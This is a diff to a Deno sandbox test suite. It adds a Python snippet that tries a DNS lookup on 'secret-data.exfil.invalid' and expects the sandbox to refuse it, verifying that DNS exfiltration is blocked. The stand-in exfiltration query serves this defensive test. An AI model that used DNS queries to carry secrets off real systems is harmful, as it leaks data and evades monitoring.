@@ -183,11 +183,17 @@ Deno.test("profiles grant exactly their folders and hosts", async (t) => {
           "        await js.fetch(other)",
           "    except Exception as e:",
           "        refused.append('NotCapable' in str(e) or 'net access' in str(e))",
+          // A DNS query names what it carries to whoever serves the zone: refused too.
+          "try:",
+          "    await js.Deno.resolveDns('secret-data.exfil.invalid', 'A')",
+          "except Exception as e:",
+          "    refused.append('NotCapable' in str(e))",
           "[a['greeting'], b, refused]",
         ].join("\n"),
       });
       assert.equal(r.success, true, r.text);
       assert.deepEqual(r.result, ["hello from loopback", '{"greeting":"hello from loopback"}', [
+        true,
         true,
         true,
         true,
